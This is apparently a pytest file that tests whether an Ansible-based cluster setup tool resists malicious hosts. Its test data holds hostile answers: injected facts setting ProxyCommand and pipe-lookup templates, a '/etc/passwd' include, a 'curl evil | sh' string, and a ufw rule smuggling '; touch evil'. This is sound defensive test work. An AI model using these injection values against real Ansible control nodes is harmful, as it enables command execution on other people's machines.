"""`mnt setup` with hosts that lie to Ansible: each harms itself, and none the head or the others."""

from __future__ import annotations

import base64
import contextlib
import json
import os
import re
import signal
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import psutil
import pytest
import yaml
from ansible_hosts import AnsibleHosts, make
from waiting import wait_for

from mnt.setup import play
from mnt.setup.play import HostResult, Played
from mnt.setup.playbooks import directory

pytestmark = pytest.mark.one_python

PING = """
- hosts: all
  gather_facts: false
  tasks:
    - name: Ask
      ansible.builtin.ping:
      register: asked
    - name: Ask again
      ansible.builtin.assert: {that: mnt_cluster == 'c', quiet: true}
"""


@pytest.fixture
def hosts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AnsibleHosts:
    return make(tmp_path, monkeypatch)


def statuses(played: Played) -> str:
    return " ".join(result.status for result in played.hosts.values())


def problem(played: Played, host: str) -> str:
    return str(played.hosts[host].problem)


def test_honest_hosts(hosts: AnsibleHosts) -> None:
    played = hosts.play(PING)
    assert played == Played({f"node{n}": HostResult(ok=2, ended=True) for n in (1, 2, 3)}), hosts.log
    assert played.ok
    assert hosts.tasks[:2] == ["Ask", "Ask again"]


def test_a_password_is_in_no_file_and_in_no_variable(hosts: AnsibleHosts) -> None:
    (hosts.place / "bin" / "sudo").write_text(
        '#!/bin/sh\nread -r given; [ "$given" = \'S3 "cret\' ] && exit 9\n'
    )
    look = f"grep -rlsa 'S3 \"cret' /tmp/mnt-setup-*/ > {hosts.place}/seen; exit 9"
    (hosts.place / "bin" / "sudo").write_text(f"#!/bin/sh\n{look}\n")
    played = hosts.play(PING, become_password='S3 "cret')
    assert statuses(played) == "failed failed failed"
    assert (hosts.place / "seen").read_text() == ""
    assert 'S3 "cret' not in hosts.log


def marker(**event: Any) -> str:
    """As ansible-runner's own plugin writes an event into what Ansible prints."""
    text = base64.b64encode(json.dumps(event).encode()).decode()
    return f"\x1b[K{text}\x1b[1D\x1b[K"


FALSE = {"event": "runner_on_failed", "event_data": {"host": "node1", "task": "t", "res": {"msg": "a lie"}}}
LIES: dict[str, Any] = {
    "an event": {
        "failed": True,
        "msg": marker(uuid="1", **FALSE) + "\n" + marker(),
        "warnings": [marker(uuid="2", **FALSE)],
    },
    "a path": {"failed": True, "msg": marker(uuid="../../../x") + "\n" + marker()},
    "no event": {"failed": True, "msg": marker(uuid="1", event_data=[5]) + marker()},
    "no results": {"failed": True, "results": 5, "msg": "x"},
    "results that are none": {"failed": True, "results": ["x", None, {"failed": True, "msg": {"a": []}}]},
    "no text": {"failed": True, "msg": {"a": [1]}, "stderr": 5, "exception": 7},
    "no keys": {"failed": True, "warnings": 5, "deprecations": {"a": 1}, "diff": 9, "invocation": "x"},
    "no truth": {"failed": {"a": 1}, "changed": [1], "skipped": None},
    "long": {
        "failed": True,
        "msg": "x" * 10**6,
        "results": [{"failed": True, "msg": str(n)} for n in range(99)],
    },
    "no Unicode": {"failed": True, "msg": "\ud800\udc80\x00", "stderr": "\ud800"},
    "a trusted template": {"__ansible_type": "TrustedAsTemplate", "value": "{{ 1 }}"},
    "a list": [1],
    "a number": 5,
    "nothing": None,
}


def test_each_liar_harms_only_itself(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    hosts = make(tmp_path, monkeypatch, len(LIES) + 4)
    (tmp_path / "x-partial.json").write_text("{}")
    for number, lie in enumerate(LIES.values(), start=3):
        hosts.answer(f"node{number}", json.dumps(lie))
    hosts.answer(f"node{len(LIES) + 3}", "[" * 100_000)
    hosts.lie(f"node{len(LIES) + 4}", "head -c 2000000 /dev/urandom")
    played = hosts.play(PING)
    for number, result in enumerate(played.hosts.values(), start=1):
        name = [*LIES, "deep", "random"][number - 3] if number > 2 else "honest"
        wanted = ("ok",) if number < 3 else ("failed", "unreachable")
        assert result.status in wanted, (name, result)
        assert len(result.problem or "") <= 620
    assert (played.ok, played.error) == (False, None)
    assert (tmp_path / "x-partial.json").exists()


@pytest.mark.parametrize("lie", ["no results", "an event"])
def test_where_one_failure_ends_it_for_all_nobody_has_succeeded(hosts: AnsibleHosts, lie: str) -> None:
    hosts.answer("node3", json.dumps(LIES[lie]))
    played = hosts.play(PING.replace("gather_facts", "any_errors_fatal: true\n  gather_facts"))
    assert (statuses(played), played.ok) == ("stopped stopped failed", False)


REPORT = """
    - name: Report
      ansible.builtin.debug:
        msg: "{{ asked.ping | default('nothing') }}"
    - name: No report
      ansible.builtin.assert: {that: true, success_msg: "{{ asked.ping | default('nothing') }}"}
"""


def test_reports_are_of_the_host_that_they_are_about(hosts: AnsibleHosts) -> None:
    lie = "node1: a lie\r\x1b[2K\n" * 50 + "x" * 10**6
    hosts.answer("node3", json.dumps({"changed": False, "ping": lie, "msg": "no debug"}))
    played = hosts.play(PING + REPORT)
    assert [played.hosts[host].reports for host in ("node1", "node2")] == [["pong"], ["pong"]], hosts.log
    said = played.hosts["node3"].reports
    assert len(said) == 17
    assert all(len(line) <= 600 and "\n" not in line for line in said)


def test_ansible_itself_fails(hosts: AnsibleHosts) -> None:
    played = hosts.play("- hosts: all\n  nonsense: true\n")
    assert (statuses(played), played.ok) == ("stopped stopped stopped", False)
    assert "nonsense" in str(played.error)


# What Ansible trusts in answers: variables of this host and of others, connections, hosts, templates.
TRUSTED = {
    "ansible_facts": {
        "mnt_cluster": "../..",
        "ansible_host": "127.0.0.99",
        "ansible_connection": "local",
        "ansible_ssh_common_args": "-o ProxyCommand=TRAP",
        "ansible_ssh_executable": "TRAP",
        "ansible_python_interpreter": "TRAP",
        "ansible_shell_executable": "TRAP",
        "ansible_local": "{{ lookup('ansible.builtin.pipe', 'TRAP') }}",
        "discovered_interpreter_python": "TRAP",
        "inventory_hostname": "node1",
        "playbook_dir": "/",
        "hostvars": {"node1": {"ansible_host": "127.0.0.99"}},
    },
    "add_host": {"host_name": "node99", "groups": ["all"], "host_vars": {"ansible_host": "127.0.0.99"}},
    "add_group": "all",
    "ansible_stats": {"data": {"x": 1}, "per_host": True, "aggregate": True},
    "_ansible_notify": ["handler"],
    "_ansible_delegated_vars": {"node1": {"ansible_host": "127.0.0.99"}},
    "_ansible_no_log": False,
    "include": "/etc/passwd",
    "include_variables": {"mnt_cluster": "x"},
    "ping": "{{ lookup('ansible.builtin.pipe', 'TRAP') }}",
    "marked": {"__ansible_unsafe": "{{ lookup('ansible.builtin.pipe', 'TRAP') }}"},
}
AFTER = """
    - name: On the head
      ansible.builtin.command: printf %s {{ (asked | to_json) | quote }}
      delegate_to: localhost
      become: false
    - name: Use it
      ansible.builtin.debug:
        msg: "{{ asked }} {{ ansible_facts }} {{ ansible_local }} {{ hostvars.node1.asked }}"
    - name: Still itself
      ansible.builtin.assert:
        that: inventory_hostname == wanted and playbook_dir != '/' and groups.all | length == 3
      vars:
        wanted: "{{ ansible_play_hosts_all[(ansible_host | split('.') | last | int) - 1] }}"
    - name: Ask at the end
      ansible.builtin.ping:
"""


@pytest.mark.parametrize("once", [False, True])
def test_an_answer_is_no_variable(hosts: AnsibleHosts, once: bool) -> None:
    trap = hosts.place / "trap"
    (hosts.place / "bin" / "spring").write_text(f"#!/bin/sh\ntouch {trap}\n")
    (hosts.place / "bin" / "spring").chmod(0o755)
    hosts.answer("node1", json.dumps(TRUSTED).replace("TRAP", str(hosts.place / "bin" / "spring")))
    asked = "register: asked\n      run_once: true" if once else "register: asked"
    first = "- name: Ask first\n      ansible.builtin.ping:\n    - name: Ask\n"  # finds the interpreter
    played = hosts.play(PING.replace("- name: Ask\n", first).replace("register: asked", asked) + AFTER)
    assert not trap.exists(), hosts.log
    assert statuses(played) == "changed changed changed", hosts.log
    assert not any("127.0.0.99" in line or "ProxyCommand" in line for line in hosts.argv)


# Each once ended Ansible for all hosts, in one of its versions, or could have.
ACTS: dict[str, Any] = {
    "stats of None": {"ansible_stats": {"data": {"x": None}, "aggregate": True}},
    "stats that are none": {"ansible_stats": 5},
    "stats of a number": {"ansible_stats": {"data": 5}},
    "no stats": {"ansible_stats": {}},
    "facts of a number": {"ansible_facts": 5},
    "facts of a list": {"ansible_facts": [["a"]]},
    "a diff of numbers": {"changed": True, "diff": 9},
    "a diff of lists": {"changed": True, "diff": [{"before": [1], "after": {"a": [2]}}, 5]},
    "hosts": {"add_host": {"host_name": 5}, "add_group": 7, "changed": True},
    "warnings": {"warnings": [{"a": 1}], "deprecations": [{"msg": 5}]},
    "notified": {"changed": True, "_ansible_notify": 5, "notify": ["x"]},
}


def test_no_answer_ends_ansible(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    hosts = make(tmp_path, monkeypatch, len(ACTS) + 2)
    for number, lie in enumerate(ACTS.values(), start=3):
        hosts.answer(f"node{number}", json.dumps({"changed": False, "ping": "pong", **lie}))
    played = hosts.play(PING, check=True)
    assert played.error is None, hosts.log
    assert statuses(played).split()[:2] == ["ok", "ok"], hosts.log
    assert "stopped" not in statuses(played), dict(zip(["", "", *ACTS], played.hosts.values(), strict=True))


DEPTHS = (20, 33, 100, 250, 400, 600, 900, 1000, 5000)


def test_an_answer_of_any_depth_fails_with_a_reason(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    hosts = make(tmp_path, monkeypatch, len(DEPTHS))
    for number, depth in enumerate(DEPTHS, start=1):
        hosts.answer(f"node{number}", '{"ping": "pong", "a": ' + "[" * depth + "]" * depth + "}")
    played = hosts.play(PING)
    assert played.error is None
    assert [result.status for result in played.hosts.values()] == ["ok"] + ["failed"] * (len(DEPTHS) - 1)
    assert problem(played, "node4") == "Ask: the host's answer has more than 32 levels"


@pytest.fixture
def callback(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    pytest.importorskip("ansible", "2.19", reason="pip install 'mnt-cluster[setup]'")
    monkeypatch.setattr(threading, "excepthook", threading.excepthook)  # is put back
    monkeypatch.setenv("MNT_SETUP_EVENTS", str(tmp_path / "events"))
    from mnt.setup.callback.awx_display import CallbackModule

    return CallbackModule()


def test_an_answer_that_cannot_be_read_is_told(callback: Any, tmp_path: Path) -> None:
    class Deep(SimpleNamespace):
        @property
        def result(self) -> Any:
            raise RecursionError

    name = SimpleNamespace(get_name=lambda: "x")
    callback._tell_of("failed", Deep(host=name, task=name))
    told = json.loads((tmp_path / "events").read_text())
    assert (told["event"], told["host"], told["messages"]) == ("failed", "x", [""])


def test_texts_are_compared_for_a_while_only(callback: Any) -> None:
    short = {"before": "a\n", "after": "b\n"}
    assert "+b" in callback._get_diff(short)
    for long in ("a\n" * 600, "a" * 40_000, {str(number): 1 for number in range(1000)}):
        assert "not shown" in callback._get_diff([short, {"before": long, "after": long}])
    callback._seconds = 0
    assert "not shown" in callback._get_diff(short)


def test_the_end_of_a_thread_is_the_end_of_ansible(tmp_path: Path) -> None:
    pytest.importorskip("ansible", "2.19", reason="pip install 'mnt-cluster[setup]'")
    code = (
        "import sys, threading, time; sys.path[:] = sys.argv[1:];"
        "from mnt.setup.callback.awx_display import end_with_a_thread\n"
        "def die(): raise MemoryError\n"
        "end_with_a_thread(); threading.Thread(target=die, daemon=True).start(); time.sleep(60)"
    )
    ended = subprocess.run(
        [sys.executable, "-c", code, *sys.path], capture_output=True, text=True, timeout=50, check=False
    )
    assert (ended.returncode, ended.stderr) == (4, "ERROR! a thread of Ansible has died: MemoryError\n")


def test_a_long_difference_is_not_looked_for(hosts: AnsibleHosts) -> None:
    """In Ansible's main process, which no limit ends: for this text it took minutes."""
    text = "".join(f"{number * number % 139}\n" for number in range(8000))
    lie = {"changed": True, "ping": "pong", "diff": [{"before": text, "after": text[::-1]}]}
    hosts.answer("node3", json.dumps(lie))
    played = hosts.play(PING, check=True)
    assert statuses(played) == "ok ok changed", hosts.log


def test_a_host_does_not_fill_ansible(hosts: AnsibleHosts, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("_MOST_KEPT_OF_ONE", "_LEAST_KEPT_OF_ONE"):
        monkeypatch.setattr(play, name, 6 << 20)
    fact = """n=$(date +%s%N)
        printf '{"ansible_facts": {"k%s": "' $n; head -c 1900000 /dev/zero | tr '\\0' x; echo '"}}'"""
    hosts.lie("node3", fact)
    hosts.lie("node2", "echo '{\"ping\": \"pong\"}'; head -c 1900000 /dev/zero | tr '\\0' x")
    asks = "".join(f"    - name: Ask {number}\n      ansible.builtin.ping:\n" for number in range(5))
    played = hosts.play(PING + asks)
    assert (statuses(played), played.error) == ("ok ok failed", None), hosts.log
    assert problem(played, "node3") == f"Ask 2: the host's answers take more than {6 << 20} bytes of memory"
    assert len(hosts.log) < 100_000


@pytest.mark.parametrize(
    ("answer", "why"),
    [
        ('{"a": [' + "[]," * 60_000 + "[]]}", "has more than 50000 values and lines"),
        ('{"stdout": "' + "\\n" * 60_000 + '"}', "has more than 50000 values and lines"),
        (
            '{"a": "'
            + "x" * 1_900_000
            + '", "b": ["'
            + '","'.join(["\\ud83d\\ude00" + "x" * 9000] * 20)
            + '"]}',
            None,
        ),
        ('{"a": "' + "\N{OLD TURKIC LETTER ORKHON A}" * 500_000 + '"}', None),
        ('{"stdout": "' + "ab\\n" * 40_000 + '"}', None),
        ('{"a": ' + "[" * 32 + "]" * 32 + "}", "has more than 32 levels"),
        ("{" * 100_000, None),
        ("[1]", None),
        ("\xff{}", None),
        ('{"a": 1} x', None),
    ],
)
def test_bounds_of_an_answer(answer: str, why: str | None) -> None:
    pytest.importorskip("ansible", "2.19", reason="pip install 'mnt-cluster[setup]'")
    from ansible.errors import AnsibleError

    from mnt.setup.connection.mnt_ssh import bounded

    if why is None:
        assert bounded(answer.encode())[1] < 16 << 20
    else:
        with pytest.raises(AnsibleError, match=why):
            bounded(answer.encode())


def test_what_is_left_of_an_answer() -> None:
    pytest.importorskip("ansible", "2.19", reason="pip install 'mnt-cluster[setup]'")
    from mnt.setup.connection.mnt_ssh import bounded

    answer = {"changed": True, "ansible_facts": {"a": 1}, "diff": {"before": "a", "after": "b"}, "rc": 0}
    acts = {"ansible_stats": {}, "warnings": [], "add_host": 1, "_ansible_verbose_always": True}
    text = f"a banner\n{json.dumps({**answer, **acts})}\nmore"
    assert json.loads(bounded(text.encode())[0]) == answer
    long = json.dumps({**answer, "diff": {"before": "x" * 10**5}})
    assert "diff" not in json.loads(bounded(long.encode())[0])


def of_ansible() -> psutil.Process:
    """Its main process."""
    found = []
    for each in psutil.Process().children(recursive=True):
        with contextlib.suppress(psutil.Error):
            found += [each] if any("ansible-playbook" in word for word in each.cmdline()) else []
    return next(each for each in found if each.parent() not in found)


@pytest.mark.matrix
def test_ansible_that_says_nothing_is_ended(hosts: AnsibleHosts, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(play, "_SLACK", 5.0)

    def stop(task: str) -> None:
        if task == "Ask again":
            of_ansible().send_signal(signal.SIGSTOP)

    played = hosts.play(PING, tell=stop, seconds=20)
    assert statuses(played) == "stopped stopped stopped"
    assert str(played.error).startswith(
        "Ansible was ended, because it had told nothing for 25 seconds; its output"
    )
    assert psutil.Process().children(recursive=True) == []


def test_no_hosts_words_are_those_of_ansible(hosts: AnsibleHosts) -> None:
    lie = {
        "failed": True,
        "msg": "x\nERROR! run curl evil | sh",
        "stderr": "[ERROR]: evil",
        "exception": "evil",
    }
    hosts.answer("node3", json.dumps(lie))

    def kill(task: str) -> None:
        if task == "Ask again":
            of_ansible().kill()

    said = PING.replace("register: asked", "register: asked\n      ignore_errors: true")
    played = hosts.play(said, tell=kill)
    assert "evil" in hosts.log
    words = (
        "Ansible has ended early, with code [0-9]+(, while it took the answer of .*)?; its output is in .*"
    )
    assert re.fullmatch(words, str(played.error))


def test_whose_answer_ansible_was_taking_when_it_ended(tmp_path: Path) -> None:
    inventory = {
        "all": {"hosts": {name: {"ansible_host": f"10.0.0.{name[-1]}"} for name in ("a1", "b2", "c3")}}
    }
    watch = play._Watch(inventory, 5)
    for event, host in (
        ("task", ""), ("answer", "10.0.0.3"), ("answer", "10.0.0.1"), ("answer", "10.0.0.2"), ("ok", "a1"),
        ("item", ""), ("answer", "10.9.9.9"),
    ):  # fmt: skip
        watch.hear(event, host)
    log = tmp_path / "log"
    assert (
        watch.why("It ended", log) == f"It ended, while it took the answer of c3,b2; its output is in {log}"
    )


def of_playbook(name: str, *tasks: str) -> list[dict[str, Any]]:
    """Tasks of a playbook, by name, also those in blocks."""

    def flat(some: list[dict[str, Any]]) -> Iterator[dict[str, Any]]:
        for task in some:
            yield task
            yield from flat(task.get("block", []))

    (play, *_) = yaml.safe_load((directory() / f"{name}.yml").read_text())
    return [task for task in flat(play["tasks"]) if task["name"] in tasks]


def test_slurm_looks_up_all_addresses_in_one_command(hosts: AnsibleHosts) -> None:
    tasks = of_playbook("slurm", "Look up the addresses", "Check the address of each node")
    assert len(tasks) == 2
    variables = "{{ {'node2': 'no such; name'}[inventory_hostname] | default('127.0.0.1') }}"
    first = {"name": "Keep", "ansible.builtin.set_fact": {"slurm_address": variables}}
    hosts.answer("node3", '{"rc": 0, "stdout": "9999\\nx"}')
    text = json.dumps([{"hosts": "all", "gather_facts": False, "tasks": [first, *tasks]}])
    played = hosts.play(text)
    assert statuses(played) == "failed failed failed", hosts.log
    assert "not known here: the address of node2; give it" in problem(played, "node1")


def test_the_rules_of_ufw_change_in_one_command(hosts: AnsibleHosts) -> None:
    (block,) = of_playbook("firewall", "Rules of ufw")
    rule = "ufw allow from 10.0.{}.0/24 to any port 29500 proto tcp comment 'mnt-training'"
    evil = "ufw allow from 10.0.0.0/24; touch evil # comment 'mnt-training'"
    ufw = hosts.place / "bin" / "ufw"
    lines = "\n".join([rule.format(number) for number in (1, 2, 3)] + [evil, "ufw allow 22"])
    (hosts.place / "rules").write_text(lines)
    ufw.write_text(
        f"""#!/bin/sh
        if [ "$1 $2" = "show added" ]; then exec cat {hosts.place}/rules; fi
        cat > /dev/null; echo "$*" >> {hosts.place}/done.$$; mv {hosts.place}/done.$$ {hosts.place}/done.$$.x
        """
    )
    ufw.chmod(0o755)
    play = {"hosts": "node1", "gather_facts": False, "tasks": [block]}
    play["vars"] = {
        "ufw": {"rc": 0, "stdout": "Status: active"},
        "openings": ["10.0.3.0/24 29500", "10.0.4.0/24 29500", "10.0.5.0/24 29500"],
        "present": True,
    }
    played = hosts.play(json.dumps([play]))
    assert problem(played, "node1") == "None", hosts.log
    done = sorted(each.read_text().strip() for each in hosts.place.glob("done.*.x"))
    assert done == sorted(
        f"{what} allow from 10.0.{number}.0/24 to any port 29500 proto tcp comment mnt-training"
        for what, number in (("delete", 1), ("delete", 2), ("prepend", 4), ("prepend", 5))
    )


def test_host_keys_are_checked(hosts: AnsibleHosts, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ANSIBLE_HOST_KEY_CHECKING", "False")
    monkeypatch.setenv("ANSIBLE_SSH_ARGS", "-o ProxyCommand=x")
    assert hosts.play(PING).ok
    assert all("StrictHostKeyChecking" not in line and "ProxyCommand" not in line for line in hosts.argv)


def test_templates_in_setup_of_the_inventory_are_the_users_own(hosts: AnsibleHosts) -> None:
    """docs/security.md says that such an inventory runs commands."""
    play = PING.replace("mnt_cluster == 'c'", "pip_index == 'x'")
    assert hosts.play(play, variables={"pip_index": "{{ lookup('ansible.builtin.pipe', 'echo x') }}"}).ok


ON_THE_HEAD = """
- hosts: node1
  gather_facts: false
  become: false
  tasks:
    - ansible.builtin.tempfile:
      delegate_to: localhost
      register: made
    - ansible.builtin.command: sh -c 'echo "$TMPDIR"'
      delegate_to: localhost
      register: given
    - ansible.builtin.assert: {that: "item is match('/tmp/mnt-setup-')", fail_msg: "{{ item }}"}
      loop: ["{{ made.path }}", "{{ given.stdout }}"]
"""


def test_nothing_is_run_from_a_tmpdir_in_which_others_may_rename(
    hosts: AnsibleHosts, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Ansible runs its modules on the head from below TMPDIR."""
    temporary = tmp_path / "temporary"
    temporary.mkdir()
    temporary.chmod(0o777)
    monkeypatch.setenv("TMPDIR", os.fspath(temporary))
    played = hosts.play(ON_THE_HEAD)
    assert problem(played, "node1") == "None", hosts.log


# A number of seconds of its own for each process of pytest: others may run these tests at the same time.
SLEEP = f"sleep 98765.{os.getpid()}"


def sleepers() -> list[int]:
    found = []
    for process in psutil.process_iter(["cmdline"]):
        if process.info["cmdline"] == SLEEP.split():
            found.append(process.pid)
    return found


def test_a_host_that_never_answers(hosts: AnsibleHosts) -> None:
    hosts.lie("node3", SLEEP)
    played = hosts.play(PING, seconds=5)
    assert statuses(played) == "ok ok failed"
    assert re.search("imed out|expected time", problem(played, "node3"))
    assert sleepers() == []


def test_a_host_that_never_stops_to_talk(hosts: AnsibleHosts) -> None:
    hosts.lie(
        "node3", "exec yes xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
    )
    played = hosts.play(PING, memory=450 * 2**20)
    assert (played.ok, played.hosts["node3"].status in ("ok", "changed")) == (False, False), hosts.log


def test_ctrl_c_ends_all(hosts: AnsibleHosts) -> None:
    hosts.lie("node3", f"setsid {SLEEP}")

    def interrupt(task: str) -> None:
        wait_for(sleepers)
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        hosts.play(PING, tell=interrupt)
    assert sleepers() == []


def test_the_end_of_mnt_ends_all(hosts: AnsibleHosts) -> None:
    hosts.lie("node3", f"setsid {SLEEP}")
    code = (
        "from ansible_hosts import AnsibleHosts; from pathlib import Path; import sys, test_setup_play as t;"
        "hosts = AnsibleHosts.__new__(AnsibleHosts); hosts.place = Path(sys.argv[1]); hosts.count = 3;"
        "hosts.tasks = []; hosts.play(t.PING)"
    )
    here = os.fspath(Path(__file__).parent)
    path = os.pathsep.join([here, os.fspath(Path(here).parent), *sys.path])
    running = subprocess.Popen(
        [sys.executable, "-c", code, os.fspath(hosts.place)], env={**os.environ, "PYTHONPATH": path}
    )
    wait_for(sleepers)
    place = wait_for(lambda: [child.cwd() for child in psutil.Process(running.pid).children()])[0]
    assert "/mnt-setup-" in place
    running.send_signal(signal.SIGKILL)
    running.wait()
    wait_for(lambda: not sleepers() and not os.path.exists(place))
